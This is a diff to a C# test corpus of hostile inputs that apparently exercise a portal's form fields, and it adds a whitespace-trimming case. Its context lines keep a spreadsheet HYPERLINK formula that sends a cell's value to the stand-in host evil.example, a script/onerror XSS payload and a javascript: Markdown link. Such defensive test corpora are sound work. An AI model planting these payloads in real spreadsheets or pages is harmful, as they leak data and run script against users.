@@ -48,6 +48,8 @@ public static class HostileCorpus
     /// 8,000-character word, a formula, script and Markdown injections). <see cref="EveryFormTests"/> pushes each through
     /// every text field of every form; <see cref="Payloads"/> holds only values the portal keeps, read back everywhere.
     /// </summary>
+    public const string OuterWhiteSpace = "blancs autour";
+
     public static readonly (string Class, string Value)[] Classes =
     [
         ("non-caractère", "outil \ufffe fin"),
@@ -62,6 +64,8 @@ public static class HostileCorpus
         ("formule", "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"clic\")"),
         ("script", "<script>alert(1)</script><img src=x onerror=alert(2)>"),
         ("Markdown", "[lien](javascript:alert(3)) ![image](https://ailleurs.example/x.png)"),
+        // White space around a value is not text (UserText.Outer): kept exactly, or taken off both ends and nothing else.
+        (OuterWhiteSpace, "  \t Atelier   du  mardi"),
     ];
 
     public static string Marker(int n) => $"ZQ{n:00}";
